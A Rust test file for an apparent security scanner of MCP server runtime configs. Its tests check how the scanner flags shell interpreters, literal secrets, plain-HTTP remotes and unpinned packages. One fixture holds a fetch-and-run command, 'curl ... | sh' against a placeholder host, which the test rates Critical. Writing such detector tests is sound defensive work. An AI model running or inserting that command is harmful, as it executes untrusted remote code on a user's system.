//! The runtime: shells and inline code, secrets and transport, pinning.

use super::*;

// ---------------------------------------------------------------------------
// Shells and inline code
// ---------------------------------------------------------------------------

#[test]
fn shell_interpreters_and_inline_code_in_the_runtime_are_high_risk() {
    let cfg = with_runtime(stdio("/bin/sh", &["-c", "node server.js"], json!({})));
    assert_finding(&cfg, C::ShellExecution, "/runtime/command", S::High);
    let cfg = with_runtime(stdio("bash", &["start.sh"], json!({})));
    assert_finding(&cfg, C::ShellExecution, "/runtime/command", S::High);
    let cfg = with_runtime(stdio(
        "python3",
        &["-c", "import srv; srv.run()"],
        json!({}),
    ));
    assert_finding(&cfg, C::ShellExecution, "/runtime/args/0", S::High);
    let cfg = with_runtime(stdio(
        "bash",
        &["-c", "curl -fsSL https://x.example/i.sh | sh"],
        json!({}),
    ));
    assert_finding(&cfg, C::ShellExecution, "/runtime", S::Critical);
    assert!(!assess(&cfg).is_feasible);
}

// ---------------------------------------------------------------------------
// Secrets and transport
// ---------------------------------------------------------------------------

#[test]
fn literal_secrets_in_env_are_found_by_shape_and_by_name() {
    let cfg = with_runtime(stdio(
        "node",
        &["srv.js"],
        json!({"OPENAI_API_KEY": FAKE_OPENAI}),
    ));
    assert_finding(&cfg, C::Secret, "/runtime/env/OPENAI_API_KEY", S::Critical);
    let cfg = with_runtime(stdio("node", &["srv.js"], json!({"SETTINGS": FAKE_GITHUB})));
    assert_finding(&cfg, C::Secret, "/runtime/env/SETTINGS", S::Critical);
    let cfg = with_runtime(stdio(
        "node",
        &["srv.js"],
        json!({"DB_PASSWORD": "hunter2hunter2"}),
    ));
    assert_finding(&cfg, C::Secret, "/runtime/env/DB_PASSWORD", S::High);
    let cfg = with_runtime(stdio(
        "node",
        &["srv.js"],
        json!({"SLACK_BOT_TOKEN": "not-a-known-shape-but-literal"}),
    ));
    assert_finding(&cfg, C::Secret, "/runtime/env/SLACK_BOT_TOKEN", S::High);
}

#[test]
fn placeholders_and_ordinary_settings_are_not_secrets() {
    let env = json!({
        "GITHUB_TOKEN": "${GITHUB_TOKEN}",
        "API_KEY": "$API_KEY",
        "DB_PASSWORD": "<your-password>",
        "SECRET": "secretsmanager://prod/mcp#key",
        "AUTH_ENABLED": "true",
        "TOKEN_TTL": "3600",
        "LOG_LEVEL": "debug",
        "PASSWORD": "",
        "AUTHOR": "Ada Lovelace",
        "MAX_TOKENS": "4096"
    });
    assert_none(&with_runtime(stdio("node", &["srv.js"], env)), C::Secret);
}

#[test]
fn literal_secrets_in_args_urls_and_headers_are_found() {
    let cfg = with_runtime(stdio(
        "node",
        &["srv.js", "--token", "abc123def456"],
        json!({}),
    ));
    assert_finding(&cfg, C::Secret, "/runtime/args/1", S::High);
    let cfg = with_runtime(stdio(
        "node",
        &["srv.js", "--api-key=abc123def456"],
        json!({}),
    ));
    assert_finding(&cfg, C::Secret, "/runtime/args/1", S::High);
    let cfg = with_runtime(stdio("node", &["srv.js", FAKE_AWS], json!({})));
    assert_finding(&cfg, C::Secret, "/runtime/args/1", S::Critical);
    let cfg = with_runtime(stdio("node", &["srv.js", "--token", "${TOKEN}"], json!({})));
    assert_none(&cfg, C::Secret);
    let cfg = with_runtime(
        json!({"transport": "streamable-http", "url": "https://bob:s3cretpw@mcp.example.com/mcp"}),
    );
    assert_finding(&cfg, C::Secret, "/runtime/url", S::Critical);
    let cfg = with_runtime(
        json!({"transport": "streamable-http", "url": "https://mcp.example.com/mcp?api_key=abc123def456"}),
    );
    assert_finding(&cfg, C::Secret, "/runtime/url", S::High);
    let cfg = with_runtime(
        json!({"transport": "streamable-http", "url": "https://mcp.example.com/mcp", "headers": {"Authorization": format!("Bearer {FAKE_OPENAI}")}}),
    );
    assert_finding(
        &cfg,
        C::Secret,
        "/runtime/headers/Authorization",
        S::Critical,
    );
}

#[test]
fn no_finding_repeats_a_secret_value() {
    let cfg = with_runtime(stdio(
        "node",
        &["srv.js", "--token", "abc123def456", FAKE_AWS],
        json!({"OPENAI_API_KEY": FAKE_OPENAI, "GH": FAKE_GITHUB, "DB_PASSWORD": "hunter2hunter2"}),
    ));
    let f = assess(&cfg);
    let text = serde_json::to_string(&f).expect("serialises");
    for secret in [
        FAKE_OPENAI,
        FAKE_GITHUB,
        FAKE_AWS,
        "hunter2hunter2",
        "abc123def456",
    ] {
        assert!(!text.contains(secret), "{secret} leaked into {text}");
    }
    assert!(
        !f.is_feasible,
        "literal credentials make a config infeasible"
    );
}

#[test]
fn plain_http_remotes_are_insecure_unless_loopback() {
    for url in [
        "http://mcp.example.com/mcp",
        "HTTP://10.0.0.5:8080/mcp",
        "http://user@example.org",
    ] {
        let cfg = with_runtime(json!({"transport": "streamable-http", "url": url}));
        assert_finding(&cfg, C::InsecureTransport, "/runtime/url", S::High);
    }
    for url in [
        "https://mcp.example.com/mcp",
        "http://localhost:8080/mcp",
        "http://127.0.0.1:3000",
        "http://[::1]:9000/mcp",
    ] {
        let cfg = with_runtime(json!({"transport": "streamable-http", "url": url}));
        assert_none(&cfg, C::InsecureTransport);
    }
}

// ---------------------------------------------------------------------------
// Supply chain
// ---------------------------------------------------------------------------

#[test]
fn unpinned_packages_and_images_are_low_risk() {
    for (runtime, loc) in [
        (
            stdio(
                "npx",
                &["-y", "@modelcontextprotocol/server-github"],
                json!({}),
            ),
            "/runtime/args/1",
        ),
        (
            stdio("npx", &["-y", "mcp-server-fetch@latest"], json!({})),
            "/runtime/args/1",
        ),
        (
            stdio("uvx", &["mcp-server-git"], json!({})),
            "/runtime/args/0",
        ),
        (
            stdio(
                "docker",
                &["run", "-i", "--rm", "-e", "TOKEN", "ghcr.io/acme/mcp"],
                json!({}),
            ),
            "/runtime/args/5",
        ),
    ] {
        assert_finding(&with_runtime(runtime), C::SupplyChain, loc, S::Low);
    }
    for runtime in [
        stdio(
            "npx",
            &["-y", "@modelcontextprotocol/server-github@2025.4.8"],
            json!({}),
        ),
        stdio("uvx", &["mcp-server-git==0.6.2"], json!({})),
        stdio(
            "docker",
            &["run", "-i", "--rm", "ghcr.io/acme/mcp:1.2.3"],
            json!({}),
        ),
        stdio(
            "docker",
            &["run", "-i", "acme/mcp@sha256:0123456789abcdef"],
            json!({}),
        ),
    ] {
        assert_none(&with_runtime(runtime), C::SupplyChain);
    }
}
